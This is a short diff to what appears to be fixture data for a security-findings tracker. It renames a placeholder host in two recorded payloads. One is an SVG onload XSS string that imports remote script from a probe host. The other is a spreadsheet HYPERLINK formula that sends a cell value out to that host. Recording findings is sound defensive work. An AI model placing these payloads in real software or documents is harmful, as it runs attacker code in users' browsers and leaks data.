@@ -17,7 +17,7 @@ export const appHistories: readonly FindingHistory[] = [
     found: '2026-03-12',
     fixed: '2026-04-15',
     due: '2026-04-26',
-    hostile: ['<svg/onload=\\"import(\'https://il-probe.example/p.js\')\\">'],
+    hostile: ['<svg/onload=\\"import(\'https://probe.example/p.js\')\\">'],
     proof: ['GET /internal/kyc/cases        200, 50 cases per page'],
     events: [
       reported(['2026-03-12', webTester, 'Our probe called back 14 minutes after the reply was saved.']),
@@ -65,7 +65,7 @@ export const appHistories: readonly FindingHistory[] = [
     found: '2026-03-11',
     fixed: null,
     due: '2026-06-25',
-    hostile: ['=HYPERLINK(""https://il-probe.example/?v=""&B2,""Invoice 4711"")'],
+    hostile: ['=HYPERLINK(""https://probe.example/?v=""&B2,""Invoice 4711"")'],
     proof: [],
     events: [
       reported([
